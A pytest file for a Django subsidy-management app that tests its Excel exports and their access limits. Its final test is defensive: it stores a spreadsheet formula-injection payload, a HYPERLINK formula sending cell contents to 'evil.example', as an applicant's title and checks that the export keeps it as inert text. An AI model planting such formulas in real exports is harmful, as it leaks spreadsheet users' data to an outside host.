"""Every list has its Excel copy, with what the page lists: budget, notices, publicity and
acceptance batches, the expert's tasks and the applicant's own applications."""

import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accounts.models import Role
from notices.services import draft_disbursement_notice
from publicity.models import AcceptanceBatch, PublicityBatch
from subsidy.models import ExpertAssignment
from workflows.stages import State

from .factories import ApplicationFactory, UserFactory
from .helpers import at, signed_in

pytestmark = pytest.mark.django_db


def sheets(response) -> dict[str, list[tuple]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    return {sheet.title: [row for row in sheet.iter_rows(values_only=True)]
            for sheet in book.worksheets}


def cells(rows) -> set:
    return {cell for row in rows for cell in row if cell is not None}


def test_budget(programme, city, finance):
    app = at(ApplicationFactory(programme=programme, approved_amount=Decimal("30000")),
             State.APPROVED)
    for user in (city, finance):
        book = sheets(signed_in(user).get(f"/desk/budget/excel/?programme={programme.pk}"))
        rows = book["资金"]
        assert f"{app.category.code} {app.category.name}" in cells(rows)
        total = next(r for r in rows if r[0] == "合计")
        assert total[5] == 30000 and total[1] == programme.total_budget


def test_notices_and_what_awaits_one(programme, city, waiting):
    draft_disbursement_notice(city, programme, [waiting[0].pk], label="第一批")
    book = sheets(signed_in(city).get(f"/desk/notices/excel/?programme={programme.pk}"))
    assert any("第一批" in str(c) for c in cells(book["公文"]))
    awaiting = cells(book["待下拨"])
    assert waiting[0].number in awaiting and waiting[1].number in awaiting


def test_publicity_and_acceptance_batches(programme, city):
    app = at(ApplicationFactory(programme=programme), State.APPROVED)
    batch = PublicityBatch.objects.create(programme=programme, kind="approval",
                                          title="拟立项项目公示", start_date="2026-12-01",
                                          end_date="2026-12-07", created_by=city)
    batch.applications.add(app)
    passed = at(ApplicationFactory(programme=programme), State.ACCEPTANCE_PASSED)
    numbered = at(ApplicationFactory(programme=programme), State.ACCEPTANCE_PASSED)
    AcceptanceBatch.objects.create(programme=programme, number=1,
                                   created_by=city).applications.add(numbered)
    client = signed_in(city)
    rows = sheets(client.get(f"/desk/publicity/excel/?programme={programme.pk}"))["公示批次"]
    assert next(r for r in rows if r[0] == "拟立项项目公示")[-1] == 1  # one item
    book = sheets(client.get(f"/desk/publicity/acceptance/excel/?programme={programme.pk}"))
    assert ("第一批", numbered.number) in {r[:2] for r in book["验收批次"]}
    assert passed.number in cells(book["待编入批次"])
    assert numbered.number not in cells(book["待编入批次"])


def test_the_experts_own_tasks_only(programme, city):
    expert, other = UserFactory(role=Role.EXPERT), UserFactory(role=Role.EXPERT)
    mine, theirs = ApplicationFactory(programme=programme), ApplicationFactory(programme=programme)
    ExpertAssignment.objects.create(application=mine, expert=expert, assigned_by=city)
    ExpertAssignment.objects.create(application=theirs, expert=other, assigned_by=city)
    rows = cells(sheets(signed_in(expert).get("/desk/experts/excel/"))["评审任务"])
    assert mine.number in rows and theirs.number not in rows


def test_the_experts_tasks_say_which_have_ended(programme, city):
    expert = UserFactory(role=Role.EXPERT)
    waiting = at(ApplicationFactory(programme=programme), State.EXPERT_REVIEW)
    ended = at(ApplicationFactory(programme=programme), State.APPROVED)
    for application in (waiting, ended):
        ExpertAssignment.objects.create(application=application, expert=expert,
                                        assigned_by=city)
    rows = sheets(signed_in(expert).get("/desk/experts/excel/"))["评审任务"]
    status = {r[0]: r[5] for r in rows if r[0] in (waiting.number, ended.number)}
    assert status == {waiting.number: "待评分", ended.number: "已结束"}


def test_the_applicants_own_applications_only(programme, applicant, other_applicant):
    mine = ApplicationFactory(programme=programme, organisation=applicant.organisation,
                              requested_amount=Decimal("12345.60"))
    theirs = ApplicationFactory(programme=programme, organisation=other_applicant.organisation)
    rows = sheets(signed_in(applicant).get("/my/excel/"))["我的申报"]
    assert mine.number in cells(rows) and theirs.number not in cells(rows)
    assert next(r for r in rows if r[0] == mine.number)[4] == 12345.6  # a number, not text


def test_the_lists_link_to_their_copies(programme, city, applicant):
    client = signed_in(city)
    for page, link in ((f"/desk/budget/?programme={programme.pk}", "/desk/budget/excel/"),
                       (f"/desk/notices/?programme={programme.pk}", "/desk/notices/excel/"),
                       (f"/desk/publicity/?programme={programme.pk}", "/desk/publicity/excel/"),
                       (f"/desk/publicity/acceptance/?programme={programme.pk}",
                        "/desk/publicity/acceptance/excel/")):
        assert link in client.get(page).content.decode(), page
    assert "/my/excel/" in signed_in(applicant).get("/my/").content.decode()


def test_strangers_get_no_copy(programme, applicant, county):
    assert signed_in(applicant).get("/desk/budget/excel/").status_code == 403
    assert signed_in(county).get("/desk/notices/excel/").status_code == 403
    assert signed_in(county).get("/my/excel/").status_code == 403


def test_text_that_looks_like_a_formula_stays_text(programme, applicant):
    """Titles and names are typed by applicants: Excel must show them, never run them."""
    trap = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    ApplicationFactory(programme=programme, organisation=applicant.organisation, title=trap)
    response = signed_in(applicant).get("/my/excel/")
    book = load_workbook(io.BytesIO(response.content))
    [cell] = [c for row in book["我的申报"].iter_rows() for c in row if c.value == trap]
    assert cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert all(b"<f>" not in archive.read(name) for name in archive.namelist())
